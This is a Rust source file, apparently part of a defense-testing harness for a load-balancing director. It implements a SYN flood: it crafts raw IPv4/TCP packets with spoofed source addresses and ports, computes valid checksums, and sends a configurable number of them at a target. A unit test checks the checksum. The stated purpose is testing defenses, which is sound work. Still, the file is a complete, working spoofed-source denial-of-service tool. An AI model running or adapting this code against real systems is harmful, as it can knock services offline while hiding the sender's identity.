//! `syn-flood`: spoofed TCP SYNs at a virtual service through a raw IPv4 socket, each from a
//! new source tuple, for the defense tests (every SYN makes the director create a connection
//! in SYN_RECV that no handshake ever completes).

use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4};
use std::time::Instant;

use anyhow::{bail, Context};
use socket2::{Domain, Protocol, SockAddr, Socket, Type};

use crate::cli::SynFloodArgs;
use crate::plan::per_second;

/// Length of the IPv4 header sent (no options).
const IP_HEADER_LEN: usize = 20;
/// Length of the TCP header sent (no options).
const TCP_HEADER_LEN: usize = 20;
/// The first spoofed source port.
const FIRST_PORT: u32 = 10000;

/// Sends the SYNs and prints `syn sent=N pps=R secs=S errors=E`.
pub fn run(args: SynFloodArgs) -> anyhow::Result<()> {
    let SocketAddr::V4(target) = args.target else {
        bail!("--target must be an IPv4 address");
    };
    let last_port = FIRST_PORT + (args.count.saturating_sub(1) >> 16);
    if last_port > u32::from(u16::MAX) {
        bail!(
            "--count {} needs more source ports than there are",
            args.count
        );
    }
    // IPPROTO_RAW implies IP_HDRINCL: the kernel sends the header as built, filling in the
    // total length and the header checksum.
    let socket = Socket::new(
        Domain::IPV4,
        Type::from(libc::SOCK_RAW),
        Some(Protocol::from(libc::IPPROTO_RAW)),
    )
    .context("raw socket (needs CAP_NET_RAW)")?;
    let to = SockAddr::from(SocketAddr::V4(SocketAddrV4::new(*target.ip(), 0)));
    let [a, b, _, _] = args.source_net.octets();
    let (mut sent, mut errors) = (0u64, 0u64);
    let start = Instant::now();
    for i in 0..args.count {
        let source = SocketAddrV4::new(
            Ipv4Addr::new(a, b, (i >> 8) as u8, i as u8),
            (FIRST_PORT + (i >> 16)) as u16,
        );
        let packet = syn(source, target, i);
        match socket.send_to(&packet, &to) {
            Ok(_) => sent += 1,
            Err(_) => errors += 1,
        }
    }
    let elapsed = start.elapsed();
    println!(
        "syn sent={} pps={:.1} secs={:.3} errors={}",
        sent,
        per_second(sent, elapsed),
        elapsed.as_secs_f64(),
        errors
    );
    if sent == 0 && args.count > 0 {
        bail!("no SYN could be sent");
    }
    Ok(())
}

/// An IPv4 packet carrying a TCP SYN from `source` to `target`, sequence number `seq`, with a
/// correct TCP checksum.
fn syn(
    source: SocketAddrV4,
    target: SocketAddrV4,
    seq: u32,
) -> [u8; IP_HEADER_LEN + TCP_HEADER_LEN] {
    let mut p = [0u8; IP_HEADER_LEN + TCP_HEADER_LEN];
    let total = (IP_HEADER_LEN + TCP_HEADER_LEN) as u16;
    p[0] = 0x45; // version 4, 5 words
    p[2..4].copy_from_slice(&total.to_be_bytes());
    p[6] = 0x40; // don't fragment
    p[8] = 64; // TTL
    p[9] = libc::IPPROTO_TCP as u8;
    p[12..16].copy_from_slice(&source.ip().octets());
    p[16..20].copy_from_slice(&target.ip().octets());
    let tcp = &mut p[IP_HEADER_LEN..];
    tcp[0..2].copy_from_slice(&source.port().to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = ((TCP_HEADER_LEN / 4) as u8) << 4;
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let sum = tcp_checksum(IpAddr::V4(*source.ip()), IpAddr::V4(*target.ip()), tcp);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    p
}

/// The TCP checksum of `segment` (its checksum field 0) over the IPv4 pseudo-header.
fn tcp_checksum(source: IpAddr, target: IpAddr, segment: &[u8]) -> u16 {
    let (IpAddr::V4(s), IpAddr::V4(t)) = (source, target) else {
        return 0;
    };
    let mut sum: u32 = 0;
    let mut add = |bytes: &[u8]| {
        for pair in bytes.chunks(2) {
            let word = u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]);
            sum += u32::from(word);
        }
    };
    add(&s.octets());
    add(&t.octets());
    add(&[0, libc::IPPROTO_TCP as u8]);
    add(&(segment.len() as u16).to_be_bytes());
    add(segment);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The checksum of a segment that carries it sums to 0xffff (RFC 1071), and a known SYN
    /// checks out.
    #[test]
    fn syn_checksum_verifies() {
        let source = SocketAddrV4::new(Ipv4Addr::new(10, 99, 1, 2), 10000);
        let target = SocketAddrV4::new(Ipv4Addr::new(10, 0, 0, 1), 80);
        let p = syn(source, target, 7);
        let tcp = &p[IP_HEADER_LEN..];
        assert_eq!(
            tcp_checksum(IpAddr::V4(*source.ip()), IpAddr::V4(*target.ip()), tcp),
            0
        );
        assert_eq!(&tcp[0..4], &[0x27, 0x10, 0, 80]);
        assert_eq!(tcp[13], 0x02);
    }
}
